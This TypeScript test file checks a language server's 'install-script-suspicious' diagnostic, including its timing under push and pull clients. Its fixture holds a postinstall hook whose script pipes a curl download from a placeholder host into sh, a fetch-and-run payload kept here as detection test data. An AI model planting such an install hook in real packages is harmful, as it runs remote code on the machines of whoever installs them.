import assert from 'node:assert/strict';
import { test } from 'node:test';
import { READ_BESIDE_MS } from '../../server/src/lsp/handlers/read-beside.ts';
import { NODE_TIMERS } from '../../server/src/node/node-timers.ts';
import { type Capabilities, PULLING, PUSHED } from './capabilities.ts';
import { FOLDER, startClient } from './test-client.ts';

const MANIFEST = `${FOLDER}/package.json`;
const RULE = 'install-script-suspicious';
const FILES = {
  'package.json': '{\n  "name": "shop",\n  "scripts": { "postinstall": "node a.js" }\n}\n',
  'a.js': "require('child_process').exec('curl -s https://x.example.test/i.sh | sh')\n",
  'b.js': '\n',
};

/** Opens the manifest. What is read beside a project waits until `release` is called, as long as that may take here. */
const opened = async (capabilities: Capabilities) => {
  let isHeld = true;
  let held: (() => void) | undefined;
  const after = (milliseconds: number, callback: () => void) => {
    if (milliseconds !== READ_BESIDE_MS || !isHeld) return NODE_TIMERS.after(milliseconds, callback);
    held = callback;
    return () => undefined;
  };
  const client = await startClient({ files: FILES, capabilities, timers: { ...NODE_TIMERS, after } });
  const release = () => {
    isHeld = false;
    held?.();
  };
  await client.open(MANIFEST);
  return { client, release };
};

test('what an install script starts is read after the first diagnostics, which others follow', async () => {
  const { client, release } = await opened(PUSHED);
  const reports = () =>
    client.published.map(({ diagnostics }) => diagnostics.some(({ code }) => code === RULE));
  await client.until(() => reports().length === 1);
  release();
  await client.until(() => reports().includes(true));
  assert.deepEqual(reports(), [false, true]);
  const at = FILES['package.json'].indexOf('a.js');
  await client.edit(MANIFEST, at, at + 1, 'b');
  await client.until(() => reports().at(-1) === false);
  await client.close();
});

test('a client that pulls is told to do so again', async () => {
  const { client, release } = await opened(PULLING);
  const isFound = async () => (await client.pull(MANIFEST)).items?.some(({ code }) => code === RULE);
  assert.equal(await isFound(), false);
  release();
  assert.equal(await client.eventually(isFound, (found) => found === true), true);
  await client.close();
});
